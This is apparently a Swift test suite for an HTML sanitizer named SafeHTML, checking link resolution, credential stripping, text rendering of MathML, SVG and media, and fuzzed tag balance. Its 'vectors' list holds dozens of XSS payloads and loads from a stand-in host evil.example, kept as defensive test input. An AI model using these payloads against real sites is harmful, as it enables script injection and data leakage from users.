import Foundation
import Markup
import Testing

@Suite("HTML of strangers") struct SafeHTMLTests {
  private func clean(_ html: String, base: String? = "https://a.example/dir/page") throws -> SafeHTML.Cleaned {
    try SafeHTML.clean(html, base: base)
  }

  @Test("a link has no user and password, and one with a backslash before its path is none")
  func userParts() throws {
    let base = WebReference(base: "https://me:secret@a.example/dir/page")
    for (link, wanted) in [
      ("https://ann:p@ss@b.example:8443/x?y=z@q#f@g", "https://b.example:8443/x?y=z@q#f@g"),
      ("//ann@b.example/x", "https://b.example/x"), ("x", "https://a.example/dir/x"),
      ("https://b.example/@ann", "https://b.example/@ann"), ("mailto:ann@b.example", "mailto:ann@b.example"),
      ("https://evil.example\\@b.example/", nil), ("//b.example\\x", nil), ("https://b.example%5c@evil.example/", nil),
    ] as [(String, String?)] {
      #expect(WebReference.absolute(link, base: base) == wanted, "\(link)")
    }
    #expect(WebReference.absolute("https://u:p@b.example/", base: nil) == "https://b.example/")
    #expect(WebReference.absolute("https://b.example\\@c.example/", base: nil) == nil)
    #expect(WebReference(base: "https://b.example\\@c.example/")?.resolve("x") == nil)
    #expect(try clean("<a href=\"https://u:p@b.example/\">x</a>").html.contains("u:p") == false)
  }

  @Test(
    "formulas and drawings are their words, and what stands in for an object is read",
    arguments: [
      ("Let <math><mi>a</mi><mo>+</mo><mi>b</mi></math> be even.", "Let a+b be even."),
      ("<math><mfrac><mn>1</mn><mn>2</mn></mfrac></math>", "1/2"),
      ("<math><msup><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow><mn>2</mn></msup></math>", "(a+b)^2"),
      ("<math><msqrt><mi>x</mi></msqrt><msubsup><mi>y</mi><mn>1</mn><mn>2</mn></msubsup></math>", "√(x)y_1^2"),
      (
        "<math><semantics><mi>x</mi><annotation encoding=\"application/x-tex\">x_{tex}</annotation></semantics></math>",
        "x"
      ),
      ("<svg><style>a{}</style><g><text>In <tspan>two</tspan></text><text>places</text></g></svg>", "In two places"),
      (
        "Watch: <object data=\"/a.swf\"><param name=a value=b><p>See it <a href=\"/a\">here</a>.</p></object> After.",
        "Watch:\n\nSee it here (https://a.example/a).\n\nAfter."
      ),
      (
        "<video><source src=\"blob:x\"><p>No film. <a href=\"/a.mp4\">Load it</a></p></video> After.",
        "No film. Load it (https://a.example/a.mp4)\n\nAfter."
      ),
      ("<audio controls>A <a href=\"/b.mp3\">talk</a></audio>", "A talk (https://a.example/b.mp3)"),
      ("<math>If x is <mrow>\n <mi>n</mi>\n <mo>=</mo>\n 2 </mrow></math>", "If x is n= 2"),
      ("<math><mrow>bare</mrow><msqrt>2</msqrt><b>bold</b></math>", "bare√(2)bold"),
      ("<svg><foreignObject><div>A <b>label</b></div></foreignObject></svg>", "A label"),
      (
        "<svg><g><switch><foreignObject><p>Shown</p></foreignObject><text>Instead</text></switch></g>"
          + "<switch><g></g><text>Else</text></switch></svg>", "Shown Else"
      ),
      ("safe<embed src=\"/a.swf\"> <b>words</b>", "safe https://a.example/a.swf words"),
      ("<canvas>a chart</canvas> <applet code=x>a game</applet>", "a chart a game"),
    ])
  func words(html: String, text: String) throws { #expect(try clean(html).text == text) }

  @Test("numbers and bytes of windows-1252's letters are those letters")
  func windowsLetters() throws {
    let cleaned = try clean("&#147;q&#148; don\u{92}t <img src=\"/a.png\" alt=\"it&#146;s\">")
    #expect(cleaned.text == "“q” don’t [it’s]" && cleaned.html.contains("“q” don’t "))
    #expect(cleaned.html.contains("alt=\"it’s\""))
  }

  /// What is on no page that runs a stranger's code or tells him that he was read.
  static let vectors = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img srcset=\"javascript:x 1x\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>1</script>'></foreignObject></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<link rel=\"import\" href=\"//evil.example\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:/\"><a href=\"x\">x</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://a.example/1\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=x style=\"background:url(javascript:alert(1))\" class=c id=i>x</a>",
    "<a href=x onclick=alert(1) ONMOUSEOVER=y>x</a>",
    "<a href=x target=_blank ping=//evil.example download>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<form action=//evil.example><input name=p><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea><script>1</script></textarea>",
    "<video src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\" src=x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!ENTITY x SYSTEM \"file:///x\">&x;",
    "<table background=\"javascript:alert(1)\"><td background=\"//evil.example/x\">x</table>",
    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<a title='x\" onclick=\"alert(1)' href=\"https://b.example\">x</a>",
    "<a href='https://b.example/\" onclick=\"alert(1)'>x</a>",
    "<img alt='\" onerror=\"alert(1)' src=x>",
    "<img src='x\" onerror=\"alert(1)'>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<ol start='1\" onclick=\"x'><li value=\"x onclick\">x</ol>",
    "<time datetime='\"><script>1</script>'>x</time>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss style=\"behavior:url(xss.htc)\">x</xss>",
    "<image src=x onerror=alert(1)>",
    "<portal src=//evil.example>",
    "<a href=\"//[::1]/x\" onfocus=x>x</a>",
    "<p/onclick=alert(1)//>x",
    "<\u{0}script>alert(1)</script>",
    "<script\u{C}>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<div id=x><div class=y name=z></div></div>",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "<a href=\"https://b.example\" href=\"javascript:alert(1)\">x</a>",
    "<img width=\"1\" height=\"1\" src=\"https://evil.example/beacon.gif\">",
    "<link rel=prefetch href=//evil.example>",
    "<picture><source srcset=\"//evil.example/x\"><img src=\"javascript:1\"></picture>",
    "<map><area href=\"javascript:1\"></map>",
    "<a href=\"mailto:x@y.example?body=%0Ajavascript:1\">x</a>",
    "<slot onslotchange=alert(1)>x</slot>",
  ]

  /// A tag as `SafeHTML` writes them, so that everything else is found.
  private func tags(of html: String) -> [(name: String, attributes: [(name: String, value: String)])] {
    html.matches(of: #/<(\/?[a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)>/#).map { match in
      let attributes = match.output.2.matches(of: #/ ([a-z-]+)="([^"]*)"/#).map {
        (String($0.output.1), String($0.output.2))
      }
      return (String(match.output.1), attributes)
    }
  }

  @Test("nothing of a page gets through that runs, loads, styles or names", arguments: vectors)
  func attacks(vector: String) throws {
    // Alone, in the middle of text, in an element, and twice.
    for html in [vector, "a \(vector) b", "<p>\(vector)</p><p>after</p>", vector + vector, "<b><i>\(vector)"] {
      let clean = try clean(html)
      let tags = tags(of: clean.html)
      #expect(clean.html.count { $0 == "<" } == tags.count, "\(clean.html)")
      for tag in tags {
        let name = tag.name.hasPrefix("/") ? String(tag.name.dropFirst()) : tag.name
        #expect(Self.allowed.contains(name), "\(name) in \(clean.html)")
        for attribute in tag.attributes {
          #expect(Self.attributes.contains(attribute.name), "\(attribute.name) in \(clean.html)")
          guard attribute.name == "href" || attribute.name == "data-source" else { continue }
          let isGood = ["http://", "https://", "mailto:"].contains { attribute.value.hasPrefix($0) }
          #expect(isGood, "\(attribute.value) in \(clean.html)")
        }
      }
      #expect(!clean.html.contains("evil.example/beacon"))
      // What was written is not changed by being read again: nothing in it is read in two ways.
      #expect(try SafeHTML.clean(clean.html, base: nil).text == clean.text)
    }
  }

  private static let allowed: Set<String> = [
    "a", "abbr", "b", "blockquote", "br", "details", "div", "hr", "i", "img", "li", "ol", "p", "table", "tbody", "td",
    "time", "tr",
  ]
  private static let attributes: Set<String> = [
    "alt", "colspan", "data-source", "datetime", "height", "href", "lang", "rel", "rowspan", "start", "title", "value",
    "width",
  ]

  @Test("what people write stays: lists, tables, quotes, code, links made complete")
  func kept() throws {
    let html = """
      <h2 class="x">T</h2><p>a <em>b</em> <a href="../c?d=1&amp;e">l</a> <a href="#top">top</a></p>\
      <ul><li>one<li>two</ul><pre>x\n  y</pre><table><tr><td colspan="2">z</td></tr></table>
      """
    #expect(
      try clean(html).html == """
        <h2>T</h2><p>a <em>b</em> <a href="https://a.example/c?d=1&amp;e" rel="noopener noreferrer nofollow">l</a> top</p>\
        <ul><li>one</li><li>two</li></ul><pre>x\n  y</pre><table><tr><td colspan="2">z</td></tr></table>
        """)
  }

  @Test("a picture is a placeholder that loads nothing, until a file on this machine fills it")
  func pictures() throws {
    let clean = try clean(
      "<img src='/a.png?x=1&y=2' alt='\"A\"' width=10 height=20><img data-src='b.jpg' src='data:x'>"
        + "<img src='/a.png?x=1&y=2'>")
    #expect(clean.images == ["https://a.example/a.png?x=1&y=2", "https://a.example/dir/b.jpg"])
    #expect(!clean.html.contains(" src="))
    #expect(clean.text.contains("[\"A\"]"))
    let filled = SafeHTML.fill(clean.html) { $0.hasSuffix("y=2") ? "/cache/1&2.png" : nil }
    #expect(
      filled.hasPrefix(
        "<img src=\"/cache/1&amp;2.png\" data-source=\"https://a.example/a.png?x=1&amp;y=2\" alt=\"&quot;A&quot;\""))
    #expect(filled.contains("<img data-source=\"https://a.example/dir/b.jpg\""))
    #expect(SafeHTML.fill("<img data-source=\"cut", with: { _ in nil }) == "<img data-source=\"cut")
  }

  @Test("films and frames become links, once each")
  func frames() throws {
    let clean = try clean(
      "<iframe src='//v.example/1' title='A film'></iframe><video><source src='b.mp4'>no film</video>"
        + "<a href='/x'><embed src='/y'></a>")
    #expect(clean.html.contains("<a href=\"https://v.example/1\" rel=\"noopener noreferrer nofollow\">A film</a>"))
    #expect(clean.html.contains("href=\"https://a.example/dir/b.mp4\""))
    #expect(!clean.html.contains("no film"))
    #expect(clean.text.contains("A film (https://v.example/1)"))
  }

  @Test(
    "the plain text has paragraphs, lists, quotes, lines of code and where links lead",
    arguments: [
      ("<p>one</p><p>two<br>three</p>", "one\n\ntwo\nthree"), ("a   b\n c", "a b c"),
      ("<ul><li>a<li>b<ol start=3><li>c<li>d</ol></ul>e", "• a\n• b\n  3. c\n  4. d\n\ne"),
      ("<p>a</p><blockquote><p>q<p>r</blockquote><p>b", "a\n\n> q\n>\n> r\n\nb"),
      ("<pre>x\n  y\n\nz</pre>", "x\n  y\n\nz"), ("<h1>T</h1>text<hr>more", "T\n\ntext\n\n* * *\n\nmore"),
      (
        "<a href='https://b.example/'>b.example</a> <a href='https://b.example/p'>here</a>",
        "b.example here (https://b.example/p)"
      ),
      ("<table><tr><td>a<td>b<tr><td>c</table>", "a\tb\nc"), ("<q>quoted</q> &amp; &lt;b&gt;", "“quoted” & <b>"),
      ("x<sub>2</sub>", "x2"), ("<div>a<div>b</div></div>c", "a\nb\nc"), ("", ""), ("<p> </p>", ""),
      ("한글<b>과</b> 漢字", "한글과 漢字"), ("👩‍👩‍👧 <b>e\u{301}</b>", "👩‍👩‍👧 e\u{301}"),
    ])
  func plainText(html: String, text: String) throws {
    #expect(try clean(html).text == text)
  }

  @Test("without a base, links that are not complete are left out with their words kept")
  func noBase() throws {
    #expect(try clean("<a href='/x'>a</a><img src='/y' alt='b'>", base: nil).html.contains("<a") == false)
    #expect(try clean("<a href='/x'>a</a><img src='/y' alt='b'>", base: nil).text == "ab")
  }

  @Test("pieces of markup in every order never break the tags that are written")
  func fuzz() throws {
    let pieces = [
      "<", ">", "\"", "'", "=", "/", "<a href=", "<p>", "</p>", "<b", "x", " ", "&", "&lt;", "<!--", "-->", "<script>",
      "</script>", "<img src=x ", "onerror=1", "\u{0}", "`", "<table><td>", "<li>", "]]>", "<![CDATA[", "javascript:",
      "한",
    ]
    var seed: UInt64 = 42
    func next(_ bound: Int) -> Int {
      seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      return Int(seed >> 33) % bound
    }
    for _ in 0..<1500 {
      let html = (0..<next(24)).map { _ in pieces[next(pieces.count)] }.joined()
      let clean = try clean(html)
      let tags = tags(of: clean.html)
      #expect(clean.html.count { $0 == "<" } == tags.count, "\(html) became \(clean.html)")
      let known = ["href", "rel", "data-source", "alt"]
      #expect(tags.allSatisfy { $0.attributes.allSatisfy { known.contains($0.name) } }, "\(html) became \(clean.html)")
      var open: [String] = []
      for tag in tags where !["img", "br", "hr"].contains(tag.name) {
        if tag.name.hasPrefix("/") {
          #expect(open.popLast() == String(tag.name.dropFirst()))
        } else {
          open.append(tag.name)
        }
      }
      #expect(open.isEmpty)
    }
  }
}
